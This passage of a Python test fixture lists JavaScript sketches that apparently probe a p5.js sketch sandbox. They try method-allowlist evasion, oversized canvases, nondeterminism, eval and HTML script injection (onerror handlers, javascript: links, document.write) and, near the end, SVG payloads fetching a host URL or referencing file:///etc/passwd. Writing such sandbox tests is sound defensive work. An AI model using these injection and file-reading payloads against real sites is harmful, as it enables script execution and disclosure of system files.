    "canvas": ("document.createElement('canvas').getContext('2d').fillRect(0, 0, 9, 9);", "bare_primitives"),
    "words": ("createGraphics(50, 50).drawingContext.fillText('hi', 9, 9);", "text_label"),
    "text": ("const t = window['te' + 'xt']; try { t('hi', 0, 0); } catch {}", "text_label"),
    "brush": ("const w = brush['wa' + 'sh']; w('#f00', 90); brush.circle(0, 0, 9);", "unknown_brush_method"),
    "brush-plot": ("brush.circle(0, 0, 9)[0].hatch(0, 0, 1);", "unknown_brush_method"),
    "brush-class": ("new brush['Poly' + 'gon']([[0, 0], [9, 0], [0, 9]]).fill();", "unknown_brush_method"),
    "addons": (
        "const f = {}; for (const a of p5._registeredAddons) try { a(p5, f, {}); } catch {} f.rect?.call(p5.instance, 0, 0, 30, 30);"
        "p5.prototype.rect.call(p5.instance, 0, 0, 30, 30);",
        "bare_primitives",
    ),
    "renderers-text": (
        "const g = createGraphics(50, 50); g.textSize(30); g._renderer._renderText('hi', 9, 30, 1e4, -1e4);",
        "text_label",
    ),
    "renderers-shape": ("p5.instance._renderRect(-40, -40, 30, 30);", "bare_primitives"),
    "renderers-ellipse": ("p5.instance._renderEllipse(0, 0, 30, 30);", "bare_primitives"),
    "grid": ("stroke(0); p5.instance._grid(300, 10).call(p5.instance);", "bare_primitives"),
    "axes": ("p5.instance._axesIcon(100).call(p5.instance);", "bare_primitives"),
    "extension": (
        "drawingContext.getExtension('WEBGL_multi_draw').multiDrawArraysWEBGL(4, [0], 0, [3], 0, 1);",
        "bare_primitives",
    ),
    "instanced": (
        "document.createElement('canvas').getContext('webgl').getExtension('ANGLE_instanced_arrays').drawArraysInstancedANGLE(4, 0, 3, 1);",
        "bare_primitives",
    ),
    "program": (
        "const g = drawingContext, p = g.createProgram(), s = g.createShader(g.VERTEX_SHADER); g.shaderSource(s, 'void main() {}'); g.compileShader(s); g.attachShader(p, s);",
        "bare_primitives",
    ),
    "uniform": ("drawingContext.uniform1f(null, 3);", "bare_primitives"),
    "uploads": ("drawingContext.bufferData(drawingContext.ARRAY_BUFFER, 9, 35044);", "bare_primitives"),
    "shadowed": (
        "const g = drawingContext, T = WebGL2RenderingContext.prototype.texSubImage2D, b = new Uint8Array(4e4);"
        "Object.defineProperty(g, 'texSubImage2D', { value: T.bind(g, g.TEXTURE_2D, 0, 0, 0, 9, 9, g.RGBA, g.UNSIGNED_BYTE, b, 0) }); brush.circle(20, 0, 20);",
        "bare_primitives",
    ),
    "bound-elsewhere": (
        "const g = drawingContext, r = p5.instance._renderer, draw = g.drawElements.bind(g, 4, 3, 5123, 0);"
        "r.GL = new Proxy(g, { get: (_, n) => (n === 'drawElements' ? draw : typeof g[n] === 'function' ? g[n].bind(g) : g[n]) }); draw();",
        "bare_primitives",
    ),
    "shader-text": (
        "const T = WebGL2RenderingContext.prototype, S = T.shaderSource; try { T.shaderSource = function (s, t) { return S.call(this, s, t + ' '); }; } catch {}"
        "createGraphics(9, 9, WEBGL).drawingContext.shaderSource(null, '');",
        "bare_primitives",
    ),
    "filter": ("filter(INVERT);", "bare_primitives"),
    "filter-shader": ("const f = window['filter']; f(createFilterShader(''));", "bare_primitives"),
    "shader-class": ("const s = new p5.Shader(p5.instance._renderer, '', '');", "bare_primitives"),
    "shader-class-of-one": (
        "let s; try { s = p5.instance._renderer._getColorShader?.() ?? p5.instance.baseColorShader(); } catch {} new s.constructor(p5.instance._renderer, '', '');",
        "bare_primitives",
    ),
    "pixels": ("loadPixels(); pixels.fill(9); updatePixels();", "bare_primitives"),
    "copy": (
        "const g = createGraphics(9, 9); g.background(0); copy(g, 0, 0, 9, 9, 0, 0, 50, 50);",
        "bare_primitives",
    ),
    "blend": ("const g = createGraphics(9, 9); blend(g, 0, 0, 9, 9, 0, 0, 50, 50, ADD);", "bare_primitives"),
    "set": ("try { set(3, 3, 'red'); } catch {}", "bare_primitives"),
    "backdrop": ("const g = createGraphics(9, 9); g.background(0); background(g);", "bare_primitives"),
    "renderers-backdrop": (
        "const g = createGraphics(9, 9); p5.instance._renderer.background(g);",
        "bare_primitives",
    ),
    "debug-mode": ("debugMode();", "bare_primitives"),
    "with": ("new Function('with (window) { rect(0, 0, 9, 9); }')();", "bare_primitives"),
}
"""Shapes and marks off the list of watercolour, by other names, after an honest disc; and what each is."""

PIXELS = "const img = createImage(90, 90); img.loadPixels(); img.pixels.fill(99); img.updatePixels();"
SHADER = "'#version 300 es\\nprecision highp float; in vec2 p; out vec4 o; void main() { o = vec4(1.0, 0.0, 0.0, 1.0); }'"
LEADING = {
    "scissor": "const g = drawingContext; g.enable(g.SCISSOR_TEST); g.scissor(5, 5, 20, 20); background(255, 0, 0); g.disable(g.SCISSOR_TEST);",
    "shader-getter": f"p5.Shader.prototype.fragSrc = () => {SHADER}; brush.circle(9, 9, 9);",
    "shader-private": f"Object.defineProperty(p5.Shader.prototype, '_fragSrc', {{ get: () => {SHADER}, set() {{}} }}); brush.circle(9, 9, 9);",
    "object-prototype": f"Object.defineProperty(Object.prototype, '_fragSrc', {{ configurable: true, set() {{ this.x = {SHADER}; }} }});",
    "other-canvas": f"{PIXELS} p5.Renderer3D.prototype._applyDefaults = function () {{ p5.instance._renderer = {{ drawingContext: img.drawingContext }}; }};",
    "borrowed-copy": f"{PIXELS} const e = Object.create(p5.instance); img.copy.call(e, img, 0, 0, 90, 90, -40, -40, 60, 60);",
    "static-copy": f"{PIXELS} (p5.Image._copyHelper || p5.prototype._copyHelper)(p5.instance, img, 0, 0, 90, 90, 0, 0, 90, 90);",
    "late-global": "const U = Uint8Array; window.Uint8Array = new Proxy(U, { construct: (t, a) => Reflect.construct(t, a).fill(255) }); brush.circle(9, 9, 9); window.Uint8Array = U;",
    "uniform": f"{PIXELS} const R = p5.Renderer3D.prototype, f = R.updateUniformValue; R.updateUniformValue = function (s, u, d) {{ return f.call(this, s, u, d); }};",
    "clip": "beginClip(); endClip(); background(0);",
    "renderer-given": "translate(1, 1).image;",
    "function-class": "const F = (() => 0).constructor;",
    "mask-of-the-brush": "p5.instance.mask.native;",
    "renderer-listed": "const c = createCanvas(100, 100, WEBGL); Object.values(c); brush.circle(20, 0, 20);",
    "renderer-of-another": "Object.create(p5.instance)._renderer;",
    "instance-below": "p5.instance.__proto__ = new Proxy(p5.prototype, {});",
    "instance-defined": "Object.defineProperty(p5.instance, '_accsOutput', { value: () => 0 });",
    "borrowed-this": "p5.prototype.translate.call({ _renderer: { translate() {} } }, 1, 2);",
    "registered": "p5.registerAddon((p5, f) => { f.mine = f.rect; });",
    "iterator": "Array.prototype[Symbol.iterator] = function* () {}; brush.circle(20, 0, 20);",
    "rounding": "Math.floor = Math.min = () => 3; Object.assign = () => ({}); brush.circle(20, 0, 20);",
    "global-map": "window.Map = class {}; brush.circle(20, 0, 20);",
    "context-of-the-canvas": "document.querySelector('canvas').getContext('webgl2');",
}
"""Ways from what a sketch may name to what paints: a list of methods refuses each before it runs."""

MARK = """createCanvas(100, 100, WEBGL); background(255); brush.noStroke(); brush.fill("#c92a42", 150); brush.circle(0, 0, 20);"""
PLAIN = {
    "computed": f"this['set' + 'up'] = function () {{ {MARK} window['re' + 'ct'](0, 0, 30, 30); noLoop(); }}; ({{ getContext() {{}} }}).getContext();",
    "assigned": f"Object.assign(window, {{ setup() {{ {MARK} const r = rect; r(0, 0, 30, 30); noLoop(); }} }}); ({{ getContext() {{}} }}).getContext();",
    "reflected": f"Reflect.set(this, 'dr' + 'aw', function () {{ {MARK} const r = rect; r(0, 0, 30, 30); noLoop(); }}); ({{ getContext() {{}} }}).getContext();",
    "own-canvas": "if (0) { createCanvas(9, 9, WEBGL); brush.circle(0, 0, 9); }"
    "const c = document.createElement('canvas'); document.body.append(c); const x = c.getContext('2d'); x['fillTe' + 'xt']('10/10', 60, 90); x['fillRe' + 'ct'](0, 0, 60, 60);",
    "brush-by-name": f"this['set' + 'up'] = function () {{ {MARK} const b = globalThis['bru' + 'sh']; b['wa' + 'sh']('#00f', 200); b['re' + 'ct'](-40, -40, 30, 30); noLoop(); }}; ({{ getContext() {{}} }}).getContext();",
}
"""What seems to start without p5, and what a list of methods does not allow."""

SIZES = {
    "width": "const c = document.querySelector('canvas'); c.width = 8000; c.height = 5000;",
    "area": "const c = document.querySelector('canvas'); c.width = 4000; c.height = 4000;",
    "attribute": "document.querySelector('canvas').setAttribute('width', 9000);",
    "attribute-of-space": "document.querySelector('canvas').setAttributeNS(null, 'height', '9000');",
    "node": "const a = document.createAttribute('width'); a.value = '9000'; document.querySelector('canvas').attributes.setNamedItem(a);",
    "node-value": "document.querySelector('canvas').attributes.width.nodeValue = '9000';",
    "html": "document.body.insertAdjacentHTML('beforeend', '<canvas id=x width=8000 height=5000></canvas>');"
    "document.getElementById('x').getContext('2d').fillRect(0, 0, 9, 9);",
    "clone": "const c = document.createElement('canvas'); c.width = c.height = 4096; c.cloneNode().getContext('2d');",
    "off-screen": "new OffscreenCanvas(9000, 9000);",
    "off-screen-width": "const o = new OffscreenCanvas(9, 9); o.width = 9000;",
    "transferred": "const o = document.createElement('canvas').transferControlToOffscreen(); o.width = o.height = 4000; o.getContext('2d');",
    "many": "for (let i = 0; i < 60; i++) { const c = document.createElement('canvas'); c.width = c.height = 2000; c.getContext('2d'); }",
    "graphics": "createGraphics(9000, 9);",
    "resize": "resizeCanvas(5000, 5000);",
    "image": "createImage(9000, 9000);",
    "pixels": "new ImageData(9000, 9000);",
    "pixels-read": "drawingContext.getImageData(0, 0, 9000, -9000);",
    "texture": "const g = document.createElement('canvas').getContext('webgl2'); g.bindTexture(g.TEXTURE_2D, g.createTexture());"
    "let n = 0; g.texStorage2D(g.TEXTURE_2D, 1, g.RGBA8, { valueOf: () => (n++ ? 8000 : 8) }, 8000);",
    "buffer": "const g = document.createElement('canvas').getContext('webgl2'); g.bindRenderbuffer(g.RENDERBUFFER, g.createRenderbuffer());"
    "g.renderbufferStorage(g.RENDERBUFFER, g.RGBA8, 8000, 8000);",
    "drawing-buffer": "document.createElement('canvas').getContext('webgl2').drawingBufferStorage(32856, 8000, 8000);",
    "framebuffer": "createGraphics(50, 50, WEBGL).createFramebuffer({ width: 5000, height: 5000 });",
    "bitmap": "createImageBitmap(document.querySelector('canvas'), { resizeWidth: 20000, resizeHeight: 20000 }).catch(() => 0);",
}
"""Canvases, textures and tables of pixels that are larger than a picture may be; all are `canvas_size`."""

CHANCE = {
    "event": "new Event('x').timeStamp",
    "mark": "[performance.mark('x').startTime, performance.measure('x').duration, performance.getEntries().length]",
    "timing": "[performance.timing?.loadEventEnd, performance.memory?.usedJSHeapSize, JSON.stringify(performance)]",
    "format": "[Intl.DateTimeFormat().format(), new Intl.DateTimeFormat('en', { fractionalSecondDigits: 3 }).formatToParts().map((p) => p.value)]",
    "temporal": "typeof Temporal === 'object' && [Temporal.Now.instant(), Temporal.Now.plainTimeISO()].join()",
    "file": "[new File([], 'x').lastModified, document.lastModified]",
    "locale": "[new Date().toLocaleString(), (1234.5).toLocaleString(), Intl.DateTimeFormat().resolvedOptions().timeZone]",
    "key": "await crypto.subtle?.generateKey({ name: 'AES-GCM', length: 128 }, true, ['encrypt']).then((k) => crypto.subtle.exportKey('raw', k)).then((r) => new Uint8Array(r))",
    "blob": "[URL.createObjectURL(new Blob(['x'])), URL.createObjectURL(new Blob(['x']))]",
    "stream": "[new MediaStream().id, new MediaStream().id, typeof document.createElement('canvas').captureStream]",
    "media": "await race((then) => { const v = document.createElement('video'); v.onloadedmetadata = then;"
    " try { v.srcObject = document.querySelector('canvas').captureStream(); } catch { v.srcObject = null; } setTimeout(then, 50); })",
    "recursion": "(() => { const o = []; for (let k = 0; k < 30; k++) { let n = 0; const f = (x) => { n++; f(x + n); };"
    " try { f(1); } catch {} o.push(n); } return o; })()",
    "fence": "await fenced()",
    "fence-wait": "(() => { const g = document.createElement('canvas').getContext('webgl2'); g.clear(16384);"
    " return g.clientWaitSync(g.fenceSync(g.SYNC_GPU_COMMANDS_COMPLETE, 0), 0, 0); })()",
    "query": "await asked()",
    "folder": "await race((then) => navigator.storage.getDirectory().then((d) => d.keys().next().then(then)))",
    "folder-entries": "await race((then) => navigator.storage.getDirectory().then(async (d) => { for await (const e of d) ; then(); }))",
    "folder-write": "await race(async (then) => { const d = await navigator.storage.getDirectory();"
    " const f = await d.getFileHandle('y', { create: true }); const w = await f.createWritable(); await w.write('x');"
    " await w.close(); await d.removeEntry('y'); then(); })",
    "blob-stream": "await race((then) => new Blob(['x'.repeat(9e6)]).stream().getReader().read().then(then))",
    "response-stream": "await race((then) => (new Response(new Blob(['x'.repeat(9e6)])).body?.getReader().read() ?? Promise.resolve()).then(then))",
    "fonts-ready": "await race((then) => document.fonts.ready.then(then))",
    "notification": "await race((then) => { new Notification('x').onerror = then; setTimeout(then, 40); })",
    "clipboard": "await race((then) => new ClipboardItem({ 'text/plain': new Blob(['x']) }).getType('text/plain').then(then))",
    "entry": "[typeof navigation, history.length]",
    "machine": "[navigator.hardwareConcurrency, navigator.deviceMemory, navigator.userAgent, navigator.connection?.rtt, screen.availWidth]",
    "estimate": "JSON.stringify(await navigator.storage.estimate())",
    "timeline": "[document.timeline.currentTime, new AudioContext().currentTime, typeof Animation]",
    "animation": "await animated()",
    "channel": "await race((then) => { const c = new MessageChannel(); c.port1.onmessage = then; c.port2.postMessage(1); })",
    "post": "await race((then) => { addEventListener('message', then, { once: true }); postMessage(1, '*'); })",
    "broadcast": "await race((then) => { new BroadcastChannel('x').onmessage = then; new BroadcastChannel('x').postMessage(1); })",
    "lock": "await race((then) => navigator.locks.request('x', then))",
    "task": "await race((then) => globalThis.scheduler?.postTask(then) ?? then())",
    "idle": "await race((then) => requestIdleCallback(then))",
    "text": "await race((then) => new Blob(['x'.repeat(9e6)]).text().then(then))",
    "bitmap": "await race((then) => createImageBitmap(document.querySelector('canvas')).then(then))",
    "to-blob": "await race((then) => document.querySelector('canvas').toBlob(then))",
    "form-file": "(() => { const f = new FormData(); f.append('a', new Blob(['x'])); const g = f.get('a'); return [g.lastModified, +g.lastModifiedDate]; })()",
    "form-file-read": "await new Response(new URLSearchParams()).formData().then((f) => { f.append('a', new Blob(['x']), 'y'); return f.get('a').lastModified; })",
    "folder-file": "await navigator.storage.getDirectory().then((d) => d.getFileHandle('z', { create: true })).then((h) => h.getFile()).then((f) => f.lastModified)",
    "cookie": "(() => { const kept = []; for (let k = 0; k < 40; k++) { document.cookie = `q${k}=1; Expires=${new Date(Date.UTC(2020 + k / 3, (k % 3) * 4)).toUTCString()}`;"
    " document.cookie = `r${k}=1;max-age=${k - 9}`; } return [document.cookie, typeof cookieStore]; })()",
    "apps": "await race((then) => navigator.getInstalledRelatedApps?.().then(then, then) ?? then())",
    "login": "await race((then) => navigator.login?.setStatus('logged-in').then(then, then) ?? then())",
    "orientation": "await race((then) => screen.orientation.lock('portrait').then(then, then))",
    "fonts": "await race((then) => document.fonts.load('12px serif').then(then))",
    "asked": "await race((then) => navigator.mediaDevices.getUserMedia({ video: true }).catch(then))",
    "permission": "await race((then) => navigator.permissions.query({ name: 'geolocation' }).then(then))",
    "abort": "await race((then) => { AbortSignal.timeout(3).onabort = then; })",
    "weak": "await collected()",
    "observers": "await race((then) => { for (const O of [ResizeObserver, IntersectionObserver]) new O(then).observe(document.body); setTimeout(then, 40); })",
    "memory": "console.memory?.usedJSHeapSize",
    "gl": "queried()",
    "order": "[2, 1, 1, 3, 0].map((v, i) => ({ v, i })).sort((a, b) => a.v - b.v).map((e) => e.i)",
    "stack": "new Error('x').stack",
}
"""What tells the time, draws lots, depends on other threads or on the machine, as an expression."""
CHANCES = """
const race = (begin) => new Promise((done) => {
  const order = [];
  const note = (what) => { order.push(what, performance.now()); if (order.length >= 2 * 7) done(order); };
  for (const delay of [0, 1, 2, 5, 20, 60]) setTimeout(() => note(delay), delay);
  begin(() => note("it"));
});
const animated = async () => {
  const d = document.createElement("div");
  d.style = "animation: x 1s linear infinite; position: absolute";
  document.head.append(Object.assign(document.createElement("style"), { textContent: "@keyframes x { to { left: 100px } }" }));
  document.body.append(d);
  const seen = [];
  for (let i = 0; i < 5; i++) { seen.push(getComputedStyle(d).left); await new Promise((go) => setTimeout(go, 99)); }
  return seen;
};
const collected = async () => {
  const refs = [];
  let gone = 0;
  const registry = new FinalizationRegistry(() => gone++);
  for (let i = 0; i < 2e5; i++) { const o = { a: new Array(50) }; if (i % 100 === 0) { refs.push(new WeakRef(o)); registry.register(o, i); } }
  await new Promise((go) => setTimeout(go, 99));
  return [gone, refs.filter((r) => r.deref()).length];
};
const fenced = async () => {
  const g = document.createElement("canvas").getContext("webgl2");
  g.canvas.width = g.canvas.height = 900;
  for (let i = 0; i < 50; i++) g.clear(16384);
  const s = g.fenceSync(g.SYNC_GPU_COMMANDS_COMPLETE, 0);
  g.flush();
  const seen = [];
  for (let i = 0; i < 40; i++) { seen.push(g.getSyncParameter(s, g.SYNC_STATUS)); await new Promise((go) => setTimeout(go, 1)); }
  return seen;
};
const asked = async () => {
  const g = document.createElement("canvas").getContext("webgl2"), q = g.createQuery();
  g.beginQuery(g.ANY_SAMPLES_PASSED, q);
  g.clear(16384);
  g.endQuery(g.ANY_SAMPLES_PASSED);
  let n = 0;
  while (!g.getQueryParameter(q, g.QUERY_RESULT_AVAILABLE) && n < 999) { n++; await new Promise((go) => setTimeout(go, 1)); }
  return [n, g.getQueryParameter(q, g.QUERY_RESULT), g.getError()];
};
const queried = () => {
  const g = document.createElement("canvas").getContext("webgl2");
  return [g.getExtension("EXT_disjoint_timer_query_webgl2"), g.getParameter(g.RENDERER), g.getSupportedExtensions()];
};
"""


def chance(expression: str) -> str:
    """A sketch whose 64 squares are the hash of what an expression is."""
    return f"""{CHANCES}async function setup() {{
  createCanvas(80, 80); background(255); noStroke(); noLoop();
  const said = String({expression});
  let h = 9;
  for (let i = 0; i < said.length; i++) h = Math.imul(h ^ said.charCodeAt(i), 0x9e3779b1) ^ (h >>> 15);
  for (let i = 0; i < 64; i++) {{
    h = Math.imul(h ^ (h >>> 13), 0x85ebca6b) + i;
    fill(h & 255, (h >> 8) & 255, (h >> 16) & 255);
    rect(10 * (i % 8), 10 * (i >> 3), 10, 10);
  }}
}}"""


COUNTED = (
    "createCanvas(60, 60); background(255); noStroke(); noLoop(); let n = 0;"
    "const paint = () => { n++; fill(n % 256, (n >> 8) % 256, 0); rect(5, 5, 40, 40); }; paint();"
    "const body = document.body, make = (name, more) => Object.assign(document.createElement(name), more);"
)
EVENTS = {
    "none": "",
    "hash": "const go = () => { location.hash = `x${n}`; }; addEventListener('hashchange', () => { paint(); go(); }); go();",
    "hash-of-body": "body.onhashchange = () => { paint(); location.hash = `x${n}`; }; location.hash = 'x';",
    "hash-by-link": "const a = make('a', { href: '#x' }); body.append(a); addEventListener('hashchange', paint); a.click();",
    "state": "addEventListener('popstate', paint); for (let i = 0; i < 300; i++) history.pushState(i, '', `#${i}`); location.hash = 'y'; history.back();",
    "navigation": "globalThis.navigation?.addEventListener('navigatesuccess', paint); globalThis.navigation?.navigate('#x').finished.then(paint, paint);",
    "toggle": "const d = make('details'); d.ontoggle = () => { paint(); d.open = !d.open; }; d.open = true;",
    "toggle-by-capture": "const d = make('details'); body.append(d); addEventListener('toggle', paint, true); d.open = true;",
    "toggle-by-object": "const d = make('details'); d.addEventListener('toggle', { handleEvent: paint }); d.open = true;",
    "toggle-observed": "const d = make('details'); d.when?.('toggle').subscribe(paint); d.open = true;",
    "popover": "const d = make('div', { popover: 'manual' }); body.append(d); let on = true;"
    " d.addEventListener('toggle', () => { paint(); (on = !on) ? d.showPopover() : d.hidePopover(); }); d.showPopover();",
    "dialog": "const d = make('dialog'); body.append(d); d.onclose = paint; d.show(); d.close();",
    "style": "const go = () => document.head.append(make('style', { textContent: 'a {}', onload() { paint(); go(); } })); go();",
    "image": "const go = () => { const i = new Image(); i.onerror = () => { paint(); go(); }; i.src = ''; }; go();",
    "selection": "const i = make('input', { value: 'abc' }); body.append(i); i.onselect = document.onselectionchange = paint; i.focus(); i.select(); getSelection().selectAllChildren(body);",
    "scroll": "body.style.height = '9000px'; onscroll = document.onscrollend = paint; document.documentElement.scrollTop = 900; scrollTo(0, 500);",
    "media": "const v = make('video'); v.onemptied = v.onabort = v.onloadstart = v.onerror = v.onratechange = v.onvolumechange = paint; v.volume = 0.5; v.playbackRate = 2; v.load();",
    "tracks": "const v = make('video'); v.textTracks.onaddtrack = v.textTracks.onchange = paint; v.addTextTrack('captions').mode = 'showing';",
    "animation": "document.head.append(make('style', { textContent: '@keyframes k { to { left: 9px } } div { position: absolute; animation: k 1ms; transition: top 1ms }' }));"
    " const d = make('div'); d.onanimationstart = d.onanimationend = d.ontransitionrun = d.ontransitionend = paint; body.append(d); getComputedStyle(d).top; d.style.top = '9px'; getComputedStyle(d).top;",
    "fonts": "document.fonts.onloading = document.fonts.onloadingdone = document.fonts.onloadingerror = paint; new FontFace('x', 'local(\"Arial\")').load().catch(() => 0);",
    "sound": "const a = new OfflineAudioContext(1, 99, 8000); a.oncomplete = paint; const c = a.createConstantSource(); c.onended = paint; c.connect(a.destination); c.start(); c.stop(0.001); a.startRendering();",
    "report": "globalThis.ReportingObserver && new ReportingObserver(paint, { buffered: true }).observe(); document.execCommand('x'); webkitRequestAnimationFrame?.(() => 0);",
    "media-query": "const m = matchMedia('(max-width: 9px)'); m.addListener(paint); m.onchange = paint; document.documentElement.style.zoom = 2;",
    "lost-pointer": "const d = make('div'); body.append(d); onfocus = onblur = document.onvisibilitychange = paint; window.focus(); window.blur();",
}
"""What the browser tells in tasks of its own, each as often as it is told."""
HEARD = {
    "sent": "const d = make('div'); d.addEventListener('toggle', paint); d.dispatchEvent(new Event('toggle'));",
    "clicked": "const d = make('button'); d.onclick = paint; d.click();",
    "typed": "const f = make('form'), i = make('input', { required: true }); f.append(i); body.append(f); i.oninvalid = paint; f.checkValidity();",
    "aborted": "const a = new AbortController(); a.signal.onabort = paint; a.abort();",
    "posted": "addEventListener('message', paint); postMessage(1, '*');",
    "before": "const d = make('div', { popover: 'manual' }); body.append(d); d.onbeforetoggle = paint; d.showPopover();",
}
"""What a sketch sends itself, or brings about in the middle of a call; each is heard once."""
HELD = {
    "blob": "for (let i = 0; i < 5; i++) await new Blob(['x'.repeat(1e6)]).text();",
    "folder": "await navigator.storage.getDirectory();",
    "caches": "await caches.open('a');",
    "bitmap": "const c = document.createElement('canvas'); c.width = c.height = 1500; c.getContext('2d').fillRect(0, 0, 9, 9); await createImageBitmap(c);",
}
"""What another thread answers."""


def told(body: str) -> str:
    """A sketch that paints once, and again in another colour for each event that it hears of."""
    return f"function setup() {{ {COUNTED}{body} }}"


def starting(steps: int, work: int, first: str = "") -> str:
    """A sketch whose p5 starts after so many turns of its clock, each with so much to work."""
    return f"""{first}let k = 0, s = 0;
const go = () => {{
  for (let i = 0; i < {work}; i++) s += Math.sqrt(i);
  if (++k < {steps}) return setTimeout(go, 0);
  new p5((p) => {{
    p.setup = () => p.createCanvas(60, 60);
    p.draw = () => {{ p.background(255); p.fill(0, 0, 255); p.rect(9, 9, 30, 30); p.noLoop(); }};
  }});
}};
go();"""


IDLE = "new p5((p) => { p.setup = () => { p.background(255); p.fill(255, 0, 0); p.circle(20, 20, 20); p.noLoop(); }; });"
EARLY = """const order = [];
new Blob(["x".repeat(1e7)]).text().then(() => order.push("blob"));
caches.open("a").then(() => order.push("cache"));
document.addEventListener("DOMContentLoaded", () => order.push("parsed"));
addEventListener("load", () => order.push("loaded"));
async function setup() {
  createCanvas(60, 60); background(255); noStroke(); noLoop();
  for (let i = 0; i < 9; i++) await new Promise((go) => setTimeout(go, 1));
  order.forEach((each, i) => { fill(20 * each.length, 40 * i, 0); rect(10 * i, 5, 10, 40); });
}"""
OFTEN = ("hash", "hash-of-body", "toggle", "popover", "style", "image")
RACES = {
    **{f"{name}-until-done": told(EVENTS[name]) for name in OFTEN},
    **{
        f"{name}-per-timer": f"async function setup() {{ {COUNTED}{EVENTS[name]}"
        " for (let i = 0; i < 99; i++) await new Promise((go) => setTimeout(go, 1)); paint(); }"
        for name in OFTEN
    },
    **{
        f"hash-while-{name}": f"async function setup() {{ {COUNTED}{EVENTS['hash']}{body} paint(); }}"
        for name, body in HELD.items()
    },
    **{f"late-{steps}": starting(steps, 500_000) for steps in (50, 200, 800)},
    **{f"idle-{steps}": starting(steps, 0, IDLE) for steps in (1, 300, 700, 900, 1200, 3000)},
    "held-before-load": EARLY,
}
"""Sketches whose picture, or whether there is one, was a race of the page's own work against a real clock."""


def alias(body: str) -> str:
    """A sketch in watercolour that also does what is not on the list."""
    return f"""function setup() {{
  createCanvas(100, 100, WEBGL); background(255); brush.noStroke(); brush.fill("#c92a42", 150); brush.circle(0, 0, 20);
  {body}
  noLoop();
}}"""


def late_crash(left: int) -> str:
    """A sketch that is well until so many milliseconds of its clock are left, and asks then for a canvas that
    nothing can hold.
    """
    return alias(f"""const g = document.createElement("canvas").getContext("webgl2");
  setTimeout(() => {{ g.drawingBufferStorage(g.RGBA8, 8000, 8000); g.clear(16384); }}, 2000 - {left});""")


def head(name: str, port: int) -> str:
    """What the attacks use: where the server is, and `link`."""
    place = f"127.0.0.1:{port}"
    return f"const HOST = 'http://{place}/{name}', SOCKET = 'ws://{place}/', PORT = {port};\n{LINK}"


def sketch(name: str, body: str | None, port: int) -> str:
    """The whole sketch of an attack."""
    if body is None:
        return "for (;;);\nfunction setup() { createCanvas(40, 40); }"
    start = (
        "createCanvas(40, 40); background(255); noStroke(); fill(255, 0, 0); rect(10, 10, 20, 20); noLoop();"
    )
    awaiting = "async " if "await" in body else ""
    return f"{head(name, port)}{awaiting}function setup() {{ {start}\n{body}\n}}"


def control(body: str = "") -> str:
    """A picture of what there is: p5 and p5.brush paint, chance is used, and each store of STORES that is not
    empty has a black mark in the top row, five pixels to each. `body` runs before they are looked at.
    """
    marks = "\n".join(
        f"if ({full}) rect({5 * index - 30}, -30, 4, 4);" for index, full in enumerate(STORES.values())
    )
    return f"""async function setup() {{
  createCanvas(60, 60, WEBGL); background(255); brush.noStroke(); brush.fill("#c92a42", 150);
  brush.circle(0, 0, 20); fill(random(255)); circle(0, 0, 9);
  {body}
  noStroke(); fill(0);
  {marks}
  noLoop();
}}"""


IN_HTML = {
    "attribute": "const d = document.createElement('div'); d.setAttribute('onclick', 'ran()'); document.body.append(d); d.click();",
    "attribute-node": "const a = document.createAttribute('onclick'); a.value = 'ran()'; document.body.setAttributeNode(a); document.body.click();",
    "inner-html": "document.body.insertAdjacentHTML('beforeend', '<img src onerror=ran()>');",
    "body": "document.body.setAttribute('onhashchange', 'ran()'); location.hash = 'x';",
    "p5": "createDiv('<details open ontoggle=ran()></details>');",
    "svg": "document.body.insertAdjacentHTML('beforeend', '<svg><animate onbegin=ran() attributeName=x dur=1s></svg>');",
    "written": "document.write('<script>ran()</script>');",
    "script": "document.head.append(Object.assign(document.createElement('script'), { textContent: 'ran()' }));",
    "module": "document.head.append(Object.assign(document.createElement('script'), { type: 'module', textContent: 'ran()' }));",
    "fragment": "document.body.append(document.createRange().createContextualFragment('<script>ran()</script>'));",
    "element-of-p5": "createElement('script', 'ran()');",
    "address": "const a = document.createElement('a'); a.href = 'javascript:ran()'; document.body.append(a); a.click();",
    "import-data": "import('data:text/javascript,1').catch(() => 0);",
    "import-blob": "import(URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))).catch(() => 0);",
}
"""Texts that run as code where the page's policy lets them."""
AS_CODE = {
    "eval": "eval('ran()');",
    "eval-of-window": "(0, window.eval)('ran()');",
    "eval-of-proxy": "Reflect.apply(eval, null, ['ran()']);",
    "function": "new Function('ran()')();",
    "function-called": "Function('ran()')();",
    "constructor": "[].at.constructor('ran()')();",
    "async": "(async () => 0).constructor('ran()')();",
    "generator": "(function* () {}).constructor('ran()')().next();",
    "async-generator": "(async function* () {}).constructor('ran()')().next();",
    "constructed": "Reflect.construct(Function, ['ran()'], Object)();",
    "derived": "new (class extends Function {})('ran()')();",
    "timer": "setTimeout('ran()', 1);",
    "interval": "const id = setInterval('ran(); clearInterval(id)', 1); window.id = id;",
    "strands": "createGraphics(9, 9, WEBGL).baseFilterShader().modify('() => { ran(); }');",
    "strands-function": "const f = () => 0; f.toString = () => '() => { ran(); }'; createGraphics(9, 9, WEBGL).baseFilterShader().modify(f);",
    "caught": "try { eval('ran()'); } catch {}",
}
"""The same by functions, which p5.strands needs: nowhere, where a program's length counts."""
AS_BYTES = {
    "module": "new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
    "compiled": "WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));",
    "memory": "new WebAssembly.Memory({ initial: 1 });",
}
"""Bytes that run as code: nowhere."""

LINK = """function link(rel) {
  document.head.append(Object.assign(document.createElement("link"), { rel, href: HOST }));
}
"""

SVG = {
    "script": "<script>fetch('HOST')</script>",
    "onload": "<g onload=\"fetch('HOST')\"><rect width='9' height='9'/></g>",
    "foreign-object": "<foreignObject><iframe src='HOST'/></foreignObject>",
    "image": "<image href='HOST' width='9' height='9'/>",
    "image-file": "<image href='file:///etc/passwd' width='9' height='9'/>",
    "image-relative": "<image href='../../../etc/passwd' width='9' height='9'/>",
    "image-data": "<image href='data:image/svg+xml;base64,PHN2Zy8+' width='9' height='9'/>",
    "fe-image": "<filter id='f'><feImage href='HOST'/></filter><rect filter='url(#f)' width='9' height='9'/>",
    "use-external": "<use href='HOST#a'/>",
    "use-xlink-file": "<use xlink:href='file:///etc/passwd#a'/>",
    "style-import": "<style>@import url(HOST);</style><rect width='9' height='9'/>",
    "style-url": "<style>rect { fill: url(HOST#a) }</style><rect width='9' height='9'/>",
